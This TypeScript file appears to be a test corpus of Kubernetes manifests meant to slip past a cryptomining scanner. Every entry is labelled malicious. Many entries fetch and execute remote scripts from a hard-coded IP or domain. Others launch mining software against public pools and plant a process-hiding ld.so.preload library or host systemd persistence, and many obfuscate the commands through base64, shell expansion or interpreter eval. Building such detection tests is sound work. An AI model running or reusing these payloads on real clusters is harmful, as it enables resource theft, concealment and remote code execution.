import { ETH, XMR } from './wallets.ts';

const E = ETH;
const W = XMR;
const b = (text: string) => Buffer.from(text).toString('base64');
const c = (fields: object) => ({
  kind: 'Pod',
  spec: { containers: [{ name: 'a', image: 'alpine', ...fields }] },
});
const sh = (script: string) => c({ command: ['sh', '-c', script] });

/** One case a way around a scanner. All are malicious. */
export const EVASIONS: Record<string, object> = {
  tarDirect: sh(
    'wget -q https://github.com/doktor83/SRBMiner-Multi/releases/download/2.4/SRBMiner-Multi-2-4-Linux.tar.gz && tar xf SRB*; ./SRBMiner-Multi-2-4/SRBMiner-MULTI --algorithm randomx',
  ),
  lolRelease: sh(
    'curl -L https://github.com/Lolliedieb/lolMiner-releases/releases/download/1.88/lolMiner_v1.88_Lin64.tar.gz | tar xz',
  ),
  trex: c({ command: ['./t-rex'], args: ['-a', 'ethash', '-o', 'eth.example.org:4444', '-u', E] }),
  envsplit: c({
    command: ['/bin/sh', '-c', '$BIN -o $POOL -u $WALLET'],
    env: [
      { name: 'BIN', value: '/usr/bin/xmr' },
      { name: 'POOL', value: 'pool.hashvault.pro:80' },
      { name: 'WALLET', value: W },
    ],
  }),
  argsEnv: c({
    command: ['/entry'],
    args: ['--url=$(POOL_URL)', '--user=$(W)'],
    env: [
      { name: 'POOL_URL', value: 'a.b:3333' },
      { name: 'W', value: W },
    ],
  }),
  ipdropTmp: sh('curl -k https://94.103.87.71/a.sh -o /tmp/.a.sh; sh /tmp/.a.sh &'),
  pyReq: c({
    command: [
      'python',
      '-c',
      'import requests,subprocess;open("/tmp/x","wb").write(requests.get("http://94.103.87.71/x").content);subprocess.run("chmod +x /tmp/x;/tmp/x",shell=True)',
    ],
  }),
  double64: sh(`echo ${b(`echo ${b('xmrig -o a')} | base64 -d | sh`)} | base64 -d | sh`),
  openssl64: sh(`echo ${b('xmrig -o a')} | openssl enc -base64 -d | sh`),
  openssl64b: sh(`openssl base64 -d <<< ${b('xmrig -o a')} | sh`),
  pyB64: c({
    command: [
      'python3',
      '-c',
      `import base64;exec(base64.b64decode(b"${b('import os\nos.system("curl http://94.103.87.71/x|sh")')}"))`,
    ],
  }),
  herestring: sh(`bash <<< "xmrig -c x"`),
  nodeb64: c({
    command: [
      'node',
      '-e',
      `eval(Buffer.from("${b('require("child_process").execSync("xmrig -o a")')}","base64").toString())`,
    ],
  }),
  ldpre: sh(
    'cp /tmp/libprocesshider.so /usr/local/lib/ && echo /usr/local/lib/libprocesshider.so >> /etc/ld.so.preload; curl -s http://94.103.87.71/x|sh',
  ),
  xmrbare: c({ command: ['/usr/bin/xmr'], args: ['-o', 'a.b:3333', '-u', 'w', '-p', 'x'] }),
  nohupfetch: sh(
    '(curl -fsSL http://oracle.zzhreceive.top/b/a.sh || wget -q -O- http://oracle.zzhreceive.top/b/a.sh) | bash >/dev/null 2>&1 &',
  ),
  dockerhubgen: c({ image: 'docker.io/someone/cpu-miner:1' }),
  imageDigest: c({ image: 'metal3d/xmrig@sha256:' + 'a'.repeat(64) }),
  imgPort: c({ image: 'localhost:5000/xmrig' }),
  moneroCpu: c({ image: 'servethehome/monero_cpu_minergate' }),
  poolInArgsBare: c({ args: ['pool.supportxmr.com:443', W, 'x'] }),
  miningFromEnvFile: { kind: 'ConfigMap', data: { env: `POOL_URL=pool.supportxmr.com:443\nWALLET=${W}\n` } },
  cmEnv: { kind: 'ConfigMap', data: { POOL_URL: 'pool.supportxmr.com:443', WALLET: W } },
  cmArgs: { kind: 'ConfigMap', data: { XMRIG_ARGS: `-o a.b:3333 -u ${W}` } },
  secretArgs: {
    kind: 'Secret',
    stringData: { config: `{"pools":[{"url":"a.b:3333","user":"${W}"}],"cpu":true}` },
  },
  nanom: c({ command: ['./nanominer'], args: ['-algo', 'kawpow', '-wallet', 'RX', '-pool1', 'x:1'] }),
  supervisor: sh(
    `cat >/etc/supervisor/conf.d/a.conf <<E\n[program:a]\ncommand=/opt/a -o a.b:3333 -u ${W}\nE\nsupervisord -n`,
  ),
  systemd: sh(
    `cat > /host/etc/systemd/system/a.service <<E\n[Service]\nExecStart=/opt/a -o a.b:3333 -u ${W}\nE\nchroot /host systemctl enable --now a`,
  ),
  kubectlapply: sh(`kubectl create deployment x --image=metal3d/xmrig`),
  ctr: sh('ctr -n k8s.io run --rm docker.io/metal3d/xmrig:latest x'),
  aws: sh('aws s3 cp s3://bkt/xmrig /tmp/xmrig && chmod +x /tmp/xmrig && /tmp/xmrig'),
  npx: sh('npx xmrig-node'),
  pip: sh('pip install xmrig'),
  goRun: sh('go run github.com/elichai/kaspa-miner@latest'),
  cargo: sh('cargo install kaspa-miner'),
  makeSed: sh(
    `git clone https://github.com/xmrig/xmrig.git && sed -i 's/kDefaultDonateLevel = 1/kDefaultDonateLevel = 0/' xmrig/src/donate.h`,
  ),
  doh: sh(`./a -o [2001:db8::5]:3333 -u ${W}`),
  wssh: sh(`./a -o wss://xmr.a.b:443 -u ${W} --coin XMR`),
  httpgetwork: sh(
    `./a -a sha256d -o http://10.0.0.1:8332 --coinbase-addr bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq -O u:p`,
  ),
  cgm: sh('cgminer -o http://pool:8332 -u x -p y'),
  p2pool: sh(`./p2pool --host 127.0.0.1 --wallet ${W} --mini --start-mining 4`),
  perl: sh(`perl -MMIME::Base64 -e 'eval decode_base64("${b('system("xmrig -c a")')}")'`),
  php: sh(`php -r 'system("curl http://94.103.87.71/x | sh");'`),
  ruby: sh(`ruby -e 'exec "xmrig", "-o", "a:1"'`),
  dd: sh(`printf %s ${b('xmrig -o a').slice(0, 6)} ${b('xmrig -o a').slice(6)} | base64 -d | sh`),
  varb64: sh(`A=${b('xmrig -o a').slice(0, 6)}; B=${b('xmrig -o a').slice(6)}; echo "$A$B" | base64 -d | sh`),
  caseX: sh(
    'case $(uname -m) in x86_64) U=http://94.103.87.71/x64;; *) U=http://94.103.87.71/arm;; esac; curl -s $U -o /tmp/s && chmod +x /tmp/s && exec /tmp/s',
  ),
  ftp: sh('ftpget -u anonymous 94.103.87.71 /tmp/x x; chmod 777 /tmp/x; /tmp/x'),
  tftp: sh('cd /tmp; tftp -g -r k 94.103.87.71; chmod 777 k; ./k'),
  wgetP: sh('wget -P /tmp http://94.103.87.71/k; chmod 777 /tmp/k; /tmp/k'),
  curlO: sh('cd /var/tmp && curl -sO http://94.103.87.71/k && chmod +x k && ./k'),
  upd: sh('curl http://94.103.87.71/k > /usr/bin/upd; chmod +x /usr/bin/upd; upd'),
  scp: sh('ssh root@10.0.0.1 "curl -s http://94.103.87.71/x | sh"'),
  watch: sh('watch -n 60 "curl -s http://94.103.87.71/x | sh"'),
  hellArgs: c({ args: ['-c', 'stratum+tcp://na.luckpool.net:3956', '-u', 'R', '-p', 'x'] }),
  spaceImg: c({ image: ' metal3d/xmrig ' }),
  cnProxy: c({ image: 'registry.cn-hangzhou.aliyuncs.com/kin/xmrig-cuda:6' }),
  init: {
    kind: 'Rollout',
    spec: {
      template: {
        spec: {
          containers: [{ name: 'a', image: 'nginx' }],
          initContainers: [
            { name: 'b', image: 'a', args: ['./m', '-a', 'RANDOMX', '--pool', 'a:3333', '--wallet', W] },
          ],
        },
      },
    },
  },
  list: {
    kind: 'Deployment',
    spec: {
      template: {
        spec: {
          containers: [
            { name: 'a', image: 'ubuntu', command: ['/bin/bash'], args: ['-c', '--', './xmrig -c x'] },
          ],
        },
      },
    },
  },
  bashl: c({ command: ['/bin/bash', '-lc', 'xmrig'] }),
  dash: c({ command: ['/sbin/tini', '--', 'bash', '-c', 'exec /opt/xmrig/xmrig'] }),
  newline: c({ command: ['sh', '-c', 'xm\\\nrig -o a'] }),
  comment: sh('# just a comment\n\n\txmrig # run'),
  andnot: sh('test -f /tmp/lock || { touch /tmp/lock; xmrig; }'),
  subsh: sh('(xmrig)'),
  bg: sh('xmrig &'),
  cmdsub: sh('echo $(xmrig -o a)'),
  bt: sh('`which xmrig` -o a.b:3333 -u x -p x'),
  whichx: sh('exec "$(command -v minerd)" -c x'),
  alias: sh("alias a='xmrig -o b'; a"),
  printfv: sh("printf -v X '%s%s' xm rig; $X -o a"),
  read: sh('read X <<< xmrig; $X -c a'),
  setp: sh('set -- xmrig -o a; "$@"'),
  seto: sh('set -- -o a.b:3333 -u ' + W + '; ./k "$@"'),
  pexp: sh('X=xmrigZZ; ${X%ZZ} -c a'),
  pexp2: sh('X=aaxmrig; ${X#aa} -c x'),
  pexp3: sh('X=xZmZrZiZg; ${X//Z/} -c x'),
  pexp4: sh('X=__xmrig; ${X:2:5} -c x'),
  indirect: sh('A=xmrig; B=A; ${!B} -c x'),
  lower: sh('A=XMRIG; ${A,,} -c x'),
  glob: sh('/usr/bin/xmri? -c x'),
  glob2: sh('/opt/x*rig -c x'),
  sedout: sh("echo xmZrig | sed 's/Z//' | sh"),
  awk: sh(`awk 'BEGIN{system("xmrig -c a")}'`),
  vim: sh(`echo 'xmrig' > /a; . /a`),
  dotslash: sh(`echo 'xmrig' > a; chmod +x a; ./a`),
  teeX: sh(`echo xmrig | tee /x | sh`),
  at: sh(`echo xmrig | at now`),
};
